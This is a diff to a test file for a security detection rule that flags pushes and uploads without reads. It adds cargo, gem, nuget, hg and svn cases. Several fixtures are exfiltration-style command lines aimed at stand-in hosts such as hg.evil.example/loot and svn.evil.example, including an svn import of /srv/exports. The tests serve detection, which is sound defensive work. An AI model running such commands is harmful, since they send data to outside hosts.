@@ -180,6 +180,36 @@ describe('push tools, each recognised as the sensors see it', () => {
     ['kaniko', '/kaniko/executor', '--context dir:///workspace --destination gcr.io/acme/app:1', 'kaniko', 'gcr.io'],
     ['npm publish', '/usr/local/bin/npm', 'publish', 'npm', 'registry.npmjs.org'],
     ['twine upload', '/usr/local/bin/twine', 'upload dist/x-1.0.tar.gz', 'twine', 'upload.pypi.org'],
+    ['cargo publish', '/usr/local/cargo/bin/cargo', 'publish --allow-dirty', 'cargo', 'crates.io'],
+    [
+      'gem push (ruby runs the script)',
+      '/usr/local/bin/ruby',
+      '/usr/local/bin/gem push x-0.1.0.gem',
+      'gem',
+      'rubygems.org',
+    ],
+    [
+      'dotnet nuget push',
+      '/usr/bin/dotnet',
+      'nuget push bin/X.1.0.0.nupkg --api-key k --source https://nuget.evil.example/v3/index.json',
+      'nuget',
+      'nuget.evil.example',
+    ],
+    ['hg push', '/usr/bin/hg', 'push https://hg.evil.example/loot', 'hg', 'hg.evil.example'],
+    [
+      'svn import',
+      '/usr/bin/svn',
+      'import /srv/exports https://svn.evil.example/repo/trunk/x -m x',
+      'svn',
+      'svn.evil.example',
+    ],
+    [
+      'svn copy to a URL',
+      '/usr/bin/svn',
+      'copy /srv/wc svn://svn.evil.example/repo/tags/x -m x',
+      'svn',
+      'svn.evil.example',
+    ],
     [
       'curl -T',
       '/usr/bin/curl',
@@ -236,6 +266,21 @@ describe('push tools, each recognised as the sensors see it', () => {
       expect(brief(run(s.events).alerts)).toEqual([{ rule: 'push-without-reads', severity: 'low', tool, destination }]);
     });
   }
+
+  it("svn commit: the repository is the working copy's, so the destination is the first connect", () => {
+    const s = pushScenario('/usr/bin/svn', 'commit -m nightly /srv/wc', { ip: '203.0.113.40', port: 443 });
+    const a = only(run(s.events).alerts);
+    expect(brief([a])).toEqual([
+      { rule: 'push-without-reads', severity: 'low', tool: 'svn', destination: '203.0.113.40:443' },
+    ]);
+  });
+
+  it('dotnet nuget push to a folder feed is not a push (CI builds publish to local disk)', () => {
+    const s = pushScenario('/usr/bin/dotnet', 'nuget push bin/X.1.0.0.nupkg --source ./artifacts', {
+      ip: '203.0.113.41',
+    });
+    expect(run(s.events).alerts).toEqual([]);
+  });
 
   it('the pod side of kubectl cp: tar to stdout started by the runtime, reading the data', () => {
     const s = new Scenario();
